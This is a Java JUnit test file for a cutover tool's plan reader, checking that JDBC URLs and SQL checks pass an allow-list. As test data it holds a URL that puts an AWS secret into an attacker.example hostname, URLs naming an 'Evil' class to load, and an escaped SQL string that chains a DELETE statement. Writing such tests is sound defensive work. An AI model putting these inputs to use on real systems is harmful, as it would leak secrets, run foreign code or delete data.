package dev.cutover.plan;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** The JDBC URL allow-list as the plan reader applies it: new plans only (HARDENED). */
class PlanReaderJdbcTest {
  private static final String PLAN =
      """
      version: 1
      name: demo
      connections:
        flags: { http: "https://flags.internal" }
        db: { postgres: "%s", user: gate, password: "${env:DB_PASSWORD}" }
      checks:
        rate: { sql: db, query: "SELECT 99 AS value", pass: ">= 95" }
      traffic:
        set: { http: "PUT flags:/api/flags/v2", body: '{"value": ${percent}}' }
        get: { http: "GET flags:/api/flags/v2", value: "$.value" }
      stages:
        - { name: canary, percent: 10, soak: 1h, gates: [rate] }
      """;

  private static List<String> urlProblems(String url, PlanReader.Rules rules) {
    try {
      PlanReader.fromTree(PlanReader.parseTree(PLAN.formatted(url)), rules);
      return List.of();
    } catch (PlanException e) {
      return e.problems().stream().map(Problem::toString).toList();
    }
  }

  @Test
  void aNewPlanWithAPasswordOrAClassInItsJdbcUrlIsRefusedAtItsPath() {
    assertThat(
            urlProblems(
                "jdbc:postgresql://db.internal/app?password=hunter2&socketFactory=x.Evil",
                PlanReader.Rules.HARDENED))
        .containsExactly(
            "connections.db.postgres: parameter \"password\" is not written in the URL: give the connection's password:"
                + " ${env:NAME}",
            "connections.db.postgres: parameter \"socketFactory\" names a Java class for the worker to load");
  }

  @Test
  void aNewPlanWithASecretReferenceInItsJdbcUrlIsRefused() {
    assertThat(
            urlProblems(
                "jdbc:postgresql://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/app",
                PlanReader.Rules.HARDENED))
        .containsExactly(
            "connections.db.postgres: a JDBC URL may not hold a ${...} reference: a secret never goes into a URL."
                + " Write the URL literally and give credentials as user: and password: ${env:NAME}");
  }

  @Test
  void aCutoverAlreadyRunningUnderOlderRulesStillReadsItsPlan() {
    // The worker refuses such a URL when it connects, whatever the rules: see SqlSource.
    assertThat(
            urlProblems(
                "jdbc:postgresql://db.internal/app?sslfactory=x.Evil", PlanReader.Rules.CURRENT))
        .isEmpty();
    assertThat(urlProblems("${env:DB_URL}", PlanReader.Rules.CURRENT)).isEmpty();
  }

  @Test
  void anAllowedUrlReadsCleanUnderTheNewestRules() {
    assertThat(
            urlProblems(
                "jdbc:postgresql://h1:5432,[::1]:5433/app?sslmode=verify-full&targetServerType=primary",
                PlanReader.Rules.NEWEST))
        .isEmpty();
  }

  @Test
  void sqlTheFirstReleaseMiscountedIsRefusedUnderTheNewestRulesOnly() {
    String plan =
        PLAN.formatted("jdbc:postgresql://db.internal/app")
            .replace(
                "\"SELECT 99 AS value\"", "\"SELECT 99 AS value, E'\\\\'' ; DELETE FROM t -- '\"");
    // E'\'' is one quote: PostgreSQL and the newest rules see two statements, the first release
    // one.
    assertThat(problems(plan, PlanReader.Rules.HARDENED))
        .containsExactly(
            "checks.rate.query: one statement only: a check's SQL may not chain statements with ';'");
    // A cutover started before keeps reading its plan; the worker refuses the query when it runs.
    assertThat(problems(plan, PlanReader.Rules.CURRENT)).isEmpty();
  }

  private static List<String> problems(String plan, PlanReader.Rules rules) {
    try {
      PlanReader.fromTree(PlanReader.parseTree(plan), rules);
      return List.of();
    } catch (PlanException e) {
      return e.problems().stream().map(Problem::toString).toList();
    }
  }

  static Stream<Path> plansWithDatabases() throws IOException {
    try (Stream<Path> files =
        Stream.concat(
            Files.list(Path.of("..", "examples")),
            Files.list(Path.of("..", "examples", "recipes")))) {
      return files.filter(f -> f.toString().endsWith(".yaml")).sorted().toList().stream();
    }
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("plansWithDatabases")
  void everyExamplesJdbcUrlPassesTheAllowList(Path file) throws IOException {
    Matcher m = Pattern.compile("postgres: *(\\S+)").matcher(Files.readString(file));
    while (m.find()) {
      assertThat(JdbcUrls.problems(m.group(1))).as(file + ": " + m.group(1)).isEmpty();
    }
  }
}
